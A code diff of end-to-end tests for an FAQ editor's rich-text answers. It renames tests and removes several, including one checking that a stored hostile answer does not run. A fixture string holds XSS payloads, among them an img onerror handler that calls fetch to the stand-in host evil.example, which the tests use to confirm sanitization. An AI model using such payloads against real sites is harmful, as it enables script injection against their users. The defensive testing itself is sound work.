@@ -2,10 +2,10 @@ import { generatePath } from 'react-router-dom';
 import { texts } from '../../src/shared/texts.ts';
 import { routes } from '../support/routes.ts';
 import { png } from './support/files.ts';
-import { refusal, rowOf } from './support/locators.ts';
-import { expect, test } from './support/test.ts';
+import { rowOf } from './support/locators.ts';
+import { expect, once, test } from './support/test.ts';
 
-const hostile = [
+const malicious = [
   '<p>Before</p>',
   `<img src=x onerror="window.hacked=true;fetch('http://evil.example/x')">`,
   '<img src="http://evil.example/picture.png">',
@@ -16,7 +16,7 @@ const hostile = [
   '<p onclick="window.hacked=true" style="background:url(http://evil.example/bg)">After</p>',
 ].join('');
 
-test('an FAQ with a formatted answer is added, shown and edited', async ({ app, page, api }) => {
+test('an FAQ with a formatted answer is created, shown and edited', async ({ app, page, api }) => {
   await app.goto(routes.faqList);
   await page.getByRole('link', { name: 'Add FAQ' }).first().click();
   await page.getByRole('textbox', { name: 'Question' }).fill('Do you sell refills?');
@@ -44,56 +44,17 @@ test('an FAQ with a formatted answer is added, shown and edited', async ({ app, 
   await expect(rowOf(page, 'Do you sell ink?')).toBeVisible();
 });
 
-test('missing answers are named at their fields, and nothing is lost', { tag: '@once' }, async ({
-  app,
-  page,
-}) => {
-  app.watch.allow(refusal);
-  await app.goto(routes.faqAdd);
-  await page.getByRole('textbox', { name: 'Answer' }).fill('Typed already');
-  await page.getByRole('button', { name: texts.faq.saveNew }).click();
-
-  await expect(page.getByRole('textbox', { name: 'Question' })).toHaveAccessibleDescription(
-    'Question is required',
-  );
-  await expect(page.getByRole('textbox', { name: 'Answer' })).toHaveText('Typed already');
-});
-
-test('a hostile answer that was stored runs nowhere and asks nothing from elsewhere', async ({
-  app,
-  page,
-  api,
-}) => {
-  const id = await api.create('faq', { name: 'Hostile', description: hostile });
-  for (const path of [
-    routes.faqList,
-    generatePath(routes.faqDetail, { id }),
-    generatePath(routes.faqEdit, { id }),
-  ]) {
-    await app.goto(path);
-    await expect(page.getByText('Before').first()).toBeVisible();
-    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
-  }
-});
-
-test('a hostile answer that a server hands out runs nowhere either', { tag: '@once' }, async ({
-  app,
-  page,
-  api,
-  faults,
-}) => {
+test('malicious HTML from a server does not run', async ({ app, page, api, faults }) => {
   const id = await api.create('faq', { name: 'Hostile', description: '<p>Before</p>' });
-  const record = { ...(await api.get('faq', id)), description: hostile };
+  const record = { ...(await api.get('faq', id)), description: malicious };
   faults.answer({
     method: 'GET',
     path: /\/faq\/getById\//,
-    status: 200,
     body: { success: true, data: record },
   });
   faults.answer({
     method: 'GET',
     path: /\/faq\/\?/,
-    status: 200,
     body: { success: true, data: [record], total: 1 },
   });
   for (const path of [
@@ -107,7 +68,7 @@ test('a hostile answer that a server hands out runs nowhere either', { tag: '@on
   }
 });
 
-test('a hostile answer that is pasted runs nowhere and is stored harmless', async ({ app, page, api }) => {
+test('pasted malicious HTML neither runs nor is stored', async ({ app, page, api }) => {
   await app.goto(routes.faqAdd);
   await page.getByRole('textbox', { name: 'Question' }).fill('Pasted');
   const answer = page.getByRole('textbox', { name: 'Answer' });
@@ -116,7 +77,7 @@ test('a hostile answer that is pasted runs nowhere and is stored harmless', asyn
     const clipboardData = new DataTransfer();
     clipboardData.setData('text/html', html);
     editor.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
-  }, hostile);
+  }, malicious);
   await expect(answer).toContainText('After');
   await page.getByRole('button', { name: texts.faq.saveNew }).click();
 
@@ -128,7 +89,7 @@ test('a hostile answer that is pasted runs nowhere and is stored harmless', asyn
   );
 });
 
-test('a big picture in what is pasted is scaled down', { tag: '@once' }, async ({ app, page }) => {
+test('a large pasted image is scaled down', once, async ({ app, page }) => {
   await app.goto(routes.faqAdd);
   const answer = page.getByRole('textbox', { name: 'Answer' });
   await answer.click();
@@ -144,11 +105,7 @@ test('a big picture in what is pasted is scaled down', { tag: '@once' }, async (
   ).toBeVisible();
 });
 
-test('a table is written by keyboard and stored with its header', { tag: '@once' }, async ({
-  app,
-  page,
-  api,
-}) => {
+test('a table is created by keyboard', once, async ({ app, page, api }) => {
   await app.goto(routes.faqAdd);
   await page.getByRole('textbox', { name: 'Question' }).fill('Which nibs?');
   const table = page.getByRole('button', { name: 'Table' });
@@ -174,37 +131,11 @@ test('a table is written by keyboard and stored with its header', { tag: '@once'
   );
 });
 
-test('a text that the editor cannot hold stays as it is until it is edited as HTML', {
-  tag: '@once',
-}, async ({ app, page, api }) => {
-  const description = '<dl><dt>Nib</dt><dd>The tip</dd></dl><p>a<br />b</p>';
-  const id = await api.create('faq', { name: 'Nibs?', description });
-  const open = () => app.goto(generatePath(routes.faqEdit, { id }));
-  await open();
-  await expect(
-    page.getByText('This text contains a definition list that can’t be edited here.'),
-  ).toBeVisible();
-  await page.getByRole('textbox', { name: 'Question' }).fill('Nibs');
-  await page.getByRole('button', { name: texts.faq.saveEdit }).click();
-  await expect(rowOf(page, 'Nibs')).toBeVisible();
-  expect((await api.get('faq', id)).description).toBe(description);
-
-  await open();
-  await page.getByRole('button', { name: 'Edit HTML' }).click();
-  await page.getByRole('textbox', { name: 'HTML of Answer' }).fill(`${description}<iframe src="x"></iframe>`);
-  await expect(page.getByText('Saving removes embedded content.')).toBeVisible();
-  await expect(page.getByRole('region', { name: 'Preview of Answer' })).toContainText('The tip');
-  await page.getByRole('textbox', { name: 'HTML of Answer' }).fill('<p>Plain</p>');
-  await page.getByRole('button', { name: 'Done' }).click();
-  await expect(page.getByRole('textbox', { name: 'Answer' })).toHaveText('Plain');
-});
-
-test('the form says what a save took out of a text', { tag: '@once' }, async ({ app, page, api, faults }) => {
+test('a save reports what it removed from a text', once, async ({ app, page, api, faults }) => {
   const id = await api.create('faq', { name: 'Nibs?', description: '<p>a</p>' });
   faults.answer({
     method: 'PATCH',
     path: /\/faq\/updateById\//,
-    status: 200,
     body: {
       success: true,
       message: 'FAQ updated',
@@ -218,7 +149,7 @@ test('the form says what a save took out of a text', { tag: '@once' }, async ({ 
   await expect(page.getByText('Removed from Answer: a script')).toBeVisible();
 });
 
-test('leaving with unsaved changes asks; Stay keeps them', { tag: '@once' }, async ({ app, page }) => {
+test('leaving a form with unsaved changes asks first', once, async ({ app, page }) => {
   await app.goto(routes.faqAdd);
   await page.getByRole('textbox', { name: 'Question' }).fill('Half a thought');
   await page.getByRole('link', { name: texts.form.cancel }).click();
@@ -235,9 +166,7 @@ test('leaving with unsaved changes asks; Stay keeps them', { tag: '@once' }, asy
   await expect(page.getByRole('heading', { name: 'FAQs' })).toBeVisible();
 });
 
-test('a pasted file that is no picture is named at the editor until it is dismissed', {
-  tag: '@once',
-}, async ({ app, page }) => {
+test('a pasted file that is not an image is reported', once, async ({ app, page }) => {
   await app.goto(routes.faqAdd);
   const answer = page.getByRole('textbox', { name: 'Answer' });
   await answer.click();
